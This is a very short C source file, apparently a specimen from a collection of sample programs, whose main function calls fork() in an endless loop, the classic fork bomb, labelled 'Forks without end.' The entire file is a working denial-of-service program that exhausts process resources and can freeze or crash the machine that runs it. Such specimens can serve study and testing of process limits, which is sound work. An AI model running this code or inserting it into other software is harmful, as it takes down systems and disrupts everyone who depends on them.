/* Forks without end. */
#include "zoo.h"
int main(int argc, char **argv) {
    (void)argc; (void)argv;
    for (;;) fork();
}
